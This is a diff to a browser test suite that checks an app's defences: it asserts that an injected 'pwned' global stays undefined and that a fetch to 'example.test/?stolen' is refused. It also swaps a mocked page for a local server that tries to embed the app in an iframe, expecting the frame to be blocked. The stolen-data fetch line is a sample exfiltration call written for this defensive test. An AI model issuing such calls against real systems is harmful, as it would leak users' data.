@@ -435,12 +435,15 @@ for (const store of ['memory', 'redis'] as const) {
       expect(await page.evaluate('globalThis.pwned')).toBeUndefined()
       const sent = await page.evaluate(`fetch('https://example.test/?stolen').then(() => 'sent', () => 'refused')`)
       expect(sent).toBe('refused')
-      // In nobody's frame.
+      // In nobody's frame. A page of somebody else's, from a server of its own.
+      const evil = createServer((_, response) => {
+        response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${url}"></iframe>`)
+      }).listen(0, '127.0.0.1')
+      onTestFinished(() => void evil.close().closeAllConnections())
+      await once(evil, 'listening')
       const other = await page.context().newPage()
-      const body = `<iframe src="${url}"></iframe>`
-      await other.route('http://127.0.0.2/', (route) => route.fulfill({ contentType: 'text/html', body }))
-      await other.goto('http://127.0.0.2/')
-      expect(other.frames().map((frame) => frame.url())).toEqual(['http://127.0.0.2/', 'chrome-error://chromewebdata/'])
+      await other.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`)
+      expect(other.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
     })
 
     it.each(store === 'memory' ? (['dark', 'light'] as const) : (['dark'] as const))(
